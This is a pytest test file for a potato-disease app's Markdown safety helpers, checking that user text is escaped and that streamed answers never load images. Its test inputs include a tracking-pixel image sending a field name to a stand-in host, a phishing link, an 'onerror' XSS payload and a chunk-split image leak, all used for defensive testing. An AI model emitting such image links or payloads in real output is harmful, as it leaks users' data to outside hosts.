"""User text shows as written, and streamed answers load no images."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from potato_disease.markdown_safety import escape_markdown, without_images

MARKDOWN = MarkdownIt("commonmark")


@pytest.mark.parametrize(
    "typed",
    [
        "![pixel](https://tracker.example/p.png?field=North)",
        "[click me](https://phish.example)",
        "**bold** _it_ `code` # heading > quote",
        "North field – plot 3 (wet corner), 50% lesions; 1. not a list",
        "<img src=x onerror=alert(1)>",
        r"back\slash and :red[colour] and $x^2$",
    ],
)
def test_escaped_text_renders_as_exactly_what_was_typed(typed: str) -> None:
    rendered = MARKDOWN.render(escape_markdown(typed))
    assert rendered == MARKDOWN.render("placeholder").replace("placeholder", _html_text(typed))
    assert ":" not in escape_markdown(typed).replace("\\:", "")  # no Streamlit directive


def _html_text(text: str) -> str:
    return (
        text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    )


def test_an_image_split_across_chunks_is_shown_as_text_not_loaded() -> None:
    chunks = ["Late blight. Look!", "[leak](https://x.example/?q=", "North) and ![b](c)", "!"]
    streamed = list(without_images(chunks))
    text = "".join(streamed)
    assert text == "Late blight. Look!\\[leak](https://x.example/?q=North) and !\\[b](c)!"
    assert "<img" not in MARKDOWN.render(text)
    assert streamed[0] == "Late blight. Look"  # the "!" waited for the next chunk


def test_text_without_images_streams_unchanged() -> None:
    chunks = ["Remove infected ", "plants! Then ", "spray."]
    assert "".join(without_images(chunks)) == "Remove infected plants! Then spray."
    assert list(without_images([])) == []
